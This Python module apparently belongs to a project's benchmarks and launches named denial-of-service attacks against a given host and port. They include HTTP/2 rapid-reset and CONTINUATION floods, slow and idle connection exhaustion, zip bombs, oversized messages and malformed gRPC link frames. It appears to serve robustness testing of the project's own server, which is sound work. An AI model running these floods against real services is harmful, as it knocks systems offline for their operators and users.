"""Abuse of HTTP/2, of gRPC and of links: `python -m benchmarks.strangers.attacks NAME HOST:PORT SECONDS`."""

import asyncio
import itertools
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress

from benchmarks.strangers.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    DISPATCH,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LINK,
    OPENING,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    Sender,
    dispatch,
    frame,
    header,
    many,
    message,
    opened,
    request,
)
from collector_mesh.adapters.wire.generated import link_pb2 as links

_CANCEL = struct.pack("!I", 8)
_BATCH = 200
_FOUR_MIB = struct.pack("!BI", 0, 4 << 20)

Attack = Callable[[str], Awaitable[None]]
"""Goes on until it is cancelled, or until the other side has had enough; then it is begun again."""


def _streams() -> "itertools.count[int]":
    return itertools.count(1, 2)


def _opening(*frames: Callable[[int], bytes]) -> Attack:
    """Open streams, and do something to each."""

    async def attack(address: str) -> None:
        async with Connection(address) as connection:
            numbers = _streams()
            while True:
                batch = itertools.islice(numbers, _BATCH)
                await connection.send(b"".join(made(number) for number in batch for made in frames))

    return attack


def _flood(one: bytes) -> Attack:
    """The same frame over and over."""

    async def attack(address: str) -> None:
        async with Connection(address) as connection:
            await connection.send(opened(1))
            while True:
                await connection.send(one * _BATCH)

    return attack


def _open(block: bytes) -> Callable[[int], bytes]:
    return lambda stream: opened(stream, block)


def _whole(stream: int) -> bytes:
    return frame(DATA, END_STREAM, stream, message(dispatch()))


def _reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, _CANCEL)


async def continuation_flood(address: str) -> None:
    """Headers that never end."""
    async with Connection(address) as connection:
        await connection.send(frame(HEADERS, 0, 1, request()))
        piece = frame(CONTINUATION, 0, 1, header(b"x-a", b"b" * 15_000)) * 10
        while True:
            await connection.send(piece)


async def large_headers(address: str) -> None:
    """Requests with 1 MiB of headers."""
    block = request(DISPATCH, (b"x-big", b"v" * (1 << 20)))
    pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    async with Connection(address) as connection:
        for stream in _streams():
            await connection.send(frame(HEADERS, 0, stream, pieces[0]))
            for piece in pieces[1:-1]:
                await connection.send(frame(CONTINUATION, 0, stream, piece))
            await connection.send(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))


async def many_open_streams(address: str) -> None:
    """10,240 streams over 20 connections, each with the head of a message of 4 MiB."""
    async with many(20, address) as connections:
        for connection in connections:
            numbers = itertools.islice(_streams(), 512)
            heads = (_open(request())(number) + frame(DATA, 0, number, _FOUR_MIB) for number in numbers)
            await connection.send(b"".join(heads))
        await asyncio.Event().wait()


async def half_messages(address: str) -> None:
    """Streams that send 16 KB of 4 MiB, and stop."""
    async with Connection(address) as connection:
        for stream in itertools.islice(_streams(), 4):
            await connection.send(opened(stream))
            await connection.send(frame(DATA, 0, stream, _FOUR_MIB + b"x" * 16_000))
        await asyncio.Event().wait()


async def incomplete_requests(address: str) -> None:
    """256 requests over one connection that lack their last bytes."""
    whole = struct.pack("!BI", 0, 8 << 20) + bytes((8 << 20) - 100)
    async with Sender(address) as connection:
        await connection.fill(dict.fromkeys(itertools.islice(_streams(), 256), whole))
        await asyncio.Event().wait()


async def untaken_answers(address: str) -> None:
    """Echoes over streams that take nothing, as many as a connection may have, over 20 connections."""
    no_window = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))
    data = message(dispatch("x" * 15_000))
    async with many(20, address, first=no_window) as connections:
        for stream in itertools.islice(_streams(), 512):
            for connection in connections:
                await connection.send(opened(stream) + frame(DATA, END_STREAM, stream, data))
            # So that there is room for the next ones in what grpc lets a connection send.
            await asyncio.sleep(0.01)
        await asyncio.Event().wait()


def _idle(count: int, first: bytes) -> Attack:
    """So many connections that say no more than that."""

    async def attack(address: str) -> None:
        async with many(count, address, first=first):
            await asyncio.Event().wait()

    return attack


async def slow_headers(address: str) -> None:
    """300 connections whose headers arrive byte by byte."""
    words = OPENING + opened(1)
    async with many(300, address, first=b"") as connections:
        for at in range(len(words)):
            for connection in connections:
                with suppress(OSError):
                    await connection.send(words[at : at + 1])
            await asyncio.sleep(0.5)


async def other_protocols(address: str) -> None:
    """What is no HTTP/2: HTTP/1, TLS, half of a preface."""
    for words in (
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc",
        PREFACE[:13],
    ):
        async with Connection(address, first=words) as connection:
            await connection.ended(1.0)


async def zip_bombs(address: str) -> None:
    """Messages that are 64 MiB once they are unpacked."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = packer.compress(bytes(64 << 20)) + packer.flush()
    block = request(DISPATCH, (b"grpc-encoding", b"gzip"))
    data = message(packed, compressed=True)
    async with Connection(address) as connection:
        for stream in _streams():
            await connection.send(opened(stream, block))
            for at in range(0, len(data), 16_000):
                is_last = at + 16_000 >= len(data)
                await connection.send(
                    frame(DATA, END_STREAM if is_last else 0, stream, data[at : at + 16_000])
                )


async def unreadable_paths(address: str) -> None:
    """Requests that grpc's listener does not survive."""
    async with Connection(address) as connection:
        await connection.send(opened(1, request(b"/\xeb")))
        await connection.ended(0.2)


async def oversize(address: str) -> None:
    """Messages that are announced with 4 GiB."""
    async with Connection(address) as connection:
        for stream in _streams():
            head = opened(stream)
            await connection.send(head + frame(DATA, 0, stream, b"\0\xff\xff\xff\xff" + b"x" * 1000))


async def silent_links(address: str) -> None:
    """80 links that say nothing."""
    async with Connection(address) as connection:
        opened = b"".join(_open(request(LINK))(stream) for stream in itertools.islice(_streams(), 80))
        await connection.send(opened)
        await asyncio.Event().wait()


def _on_a_link(*frames: links.Frame) -> Attack:
    """A hello, then frames, as fast as they go."""
    introduction = links.Introduction(
        collector_id="attacker",
        incarnation="a",
        catalog=links.Catalog(namespaces=["texts"]),
        limits=links.Limits(max_payload_bytes=1 << 20, window=1 << 20),
    )
    greeting = links.Hello(version=1, role=1, introduction=introduction, dial=1)
    hello = links.Frame(control=links.Control(hello=greeting))

    async def attack(address: str) -> None:
        async with Connection(address) as connection:
            await connection.send(opened(1, request(LINK)))
            await connection.send(frame(DATA, 0, 1, message(hello.SerializeToString())))
            while True:
                for one in frames:
                    await connection.send(frame(DATA, 0, 1, message(one.SerializeToString())))

    return attack


_MISSING = links.Frame(
    forget_names=True,
    methods=[links.Method(namespace="texts", service="Texts", method="Missing")],
    texts=["x"],
    call_first=1,
    call_method=[0] * 100,
    call_type=[1] * 100,
    call_value=[b""] * 100,
    call_remaining=[5000] * 100,
    call_mode=[1] * 100,
)

ATTACKS: dict[str, Attack] = {
    "rapid resets": _opening(_open(request()), _reset),
    "rapid resets of whole calls": _opening(_open(request()), _whole, _reset),
    "rapid resets of links": _opening(_open(request(LINK)), _reset),
    "resets that are provoked": _opening(
        _open(request()), _whole, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4))
    ),
    "pings": _flood(frame(PING, 0, 0, b"12345678")),
    "acknowledgements": _flood(frame(PING, ACK, 0, b"12345678")),
    "settings": _flood(frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65_535))),
    "window updates": _flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "priorities": _flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "empty data": _flood(frame(DATA, 0, 1)),
    "unknown frames": _flood(frame(0xEE, 0xFF, 1, b"x" * 100)),
    "headers without end": continuation_flood,
    "large headers": large_headers,
    "requests that are never sent": _opening(_open(request())),
    "10,240 open streams": many_open_streams,
    "half messages": half_messages,
    "incomplete requests": incomplete_requests,
    "oversize messages": oversize,
    "connections that say nothing": _idle(1000, b""),
    "idle connections": _idle(1000, OPENING),
    "slow headers": slow_headers,
    "other protocols": other_protocols,
    "answers that nobody takes": untaken_answers,
    "zip bombs": zip_bombs,
    "unreadable paths": unreadable_paths,
    "silent links": silent_links,
    "calls to what is not there": _on_a_link(_MISSING),
    "frames that make no sense": _on_a_link(links.Frame(reply_to=[7], reply_type=[0], reply_value=[b""])),
}


async def attack(name: str, address: str, seconds: float) -> int:
    """Attack for so long, from the beginning whenever the other side has ended it; how often that was."""
    begun = 0
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            while True:
                begun += 1
                with suppress(OSError, asyncio.IncompleteReadError):
                    await ATTACKS[name](address)
                await asyncio.sleep(0.01)
    return begun


if __name__ == "__main__":
    print(asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]))))
